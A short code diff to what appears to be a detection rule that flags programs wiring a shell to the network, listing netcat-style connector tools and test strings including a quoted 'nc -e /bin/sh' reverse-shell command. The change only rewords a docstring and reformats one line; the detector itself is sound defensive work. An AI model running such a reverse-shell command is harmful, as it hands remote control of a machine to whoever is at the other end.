@@ -30,7 +30,7 @@ CONNECTORS = frozenset(("nc", "ncat", "netcat", "socat", "nc.traditional", "nc.o
     no_match=("nc -z localhost 80", "nc -l 8080", "echo 'nc -e /bin/sh 192.0.2.1 4444'", "socat -V"),
 )
 def remote_shell(program: Program) -> Iterator[Match]:
-    """A program connects a network connection with a shell or another program, so that whoever is at the other end commands it.
+    """A program connects the network with a shell or another program, which the other end then commands.
 
     No ordinary task needs it. Connections that only carry data are judged by what flows through them.
     """
@@ -40,7 +40,9 @@ def remote_shell(program: Program) -> Iterator[Match]:
             continue
         for effect in invocation.effects:
             if isinstance(effect, Runs) and invocation.name.text in CONNECTORS:
-                message = f"connects {named(effect.arguments[0].value) if effect.arguments else 'a program'} to the network"
+                message = (
+                    f"connects {named(effect.arguments[0].value) if effect.arguments else 'a program'} to the network"
+                )
             elif isinstance(effect, (RunsCode, StartsShell)) and invocation.name.text in CONNECTORS:
                 message = "connects a shell to the network"
             else:
